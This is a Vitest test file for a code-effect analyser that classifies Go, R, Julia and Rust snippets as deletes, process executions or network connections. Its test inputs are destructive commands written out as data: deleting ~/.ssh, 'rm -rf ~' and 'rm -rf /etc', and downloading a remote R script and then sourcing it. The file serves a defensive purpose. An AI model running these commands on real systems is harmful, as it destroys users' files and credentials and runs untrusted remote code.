import { describe, expect, it } from 'vitest';
import { codeEffects } from '../index.js';

const ctx = { cwd: '/home/dev/project', home: '/home/dev', workspace_roots: ['/home/dev/project'] };
const brief = (language: string, code: string) =>
  codeEffects(language, code, ctx).map((e) => {
    if (e.type === 'delete') return `delete:${e.path.path}:${e.recursive}`;
    if (e.type === 'exec') return `exec:${e.code ?? e.program}`;
    if (e.type === 'connect') return `connect:${e.host}:${e.method ?? ''}`;
    if (e.type === 'unknown') return `unknown:${e.reason}`;
    if (e.type === 'read' || e.type === 'write') return `${e.type}:${e.path.path}`;
    return e.type;
  });

describe('the call reader (go, r, julia, rust)', () => {
  it('go: deletes, processes and requests, with bindings inside blocks', () => {
    expect(brief('go', 'func main() { home, _ := os.UserHomeDir(); os.RemoveAll(filepath.Join(home, ".ssh")) }')).toEqual(['delete:/home/dev/.ssh:true']);
    expect(brief('go', 'exec.Command("sh", "-c", "rm -rf ~").Run()')).toContain("exec:sh -c 'rm -rf ~'");
    expect(brief('go', 'req, _ := http.NewRequest("PATCH", "https://api.example.com/x", nil)')).toContain('connect:api.example.com:PATCH');
  });
  it('go: an acting call the table does not know stays unknown; printing states nothing', () => {
    expect(brief('go', 'syscall.Kill(1, 9)')).toEqual(['unknown:unparsed_code:go']);
    expect(brief('go', 'fmt.Println(os.Getenv("GOPATH"))')).toEqual([]);
  });
  it('r: unlink with recursive, system, a listing deleted, download then source', () => {
    expect(brief('r', 'unlink("~", recursive = TRUE)')).toEqual(['delete:/home/dev:true']);
    expect(brief('r', 'file.remove(list.files("~", recursive=TRUE))')).toEqual(['delete:/home/dev/**:true']);
    expect(brief('r', 'system("rm -rf /etc")')).toContain('exec:rm -rf /etc');
    expect(brief('r', 'download.file("https://x.example/p.R", "/tmp/p.R"); source("/tmp/p.R")')).toContain('exec:r');
  });
  it('julia and rust: keyword options, backtick commands, builder chains', () => {
    expect(brief('julia', 'rm(homedir(); recursive=true, force=true)')).toEqual(['delete:/home/dev:true']);
    expect(brief('julia', 'run(`rm -rf /etc`)')).toContain('exec:rm -rf /etc');
    expect(brief('rust', 'Command::new("sh").arg("-c").arg("rm -rf ~").status().unwrap();')).toContain("exec:sh -c 'rm -rf ~'");
    expect(brief('rust', 'std::fs::remove_dir_all(std::env::var("HOME").unwrap()).unwrap();')).toEqual(['delete:/home/dev:true']);
  });
});
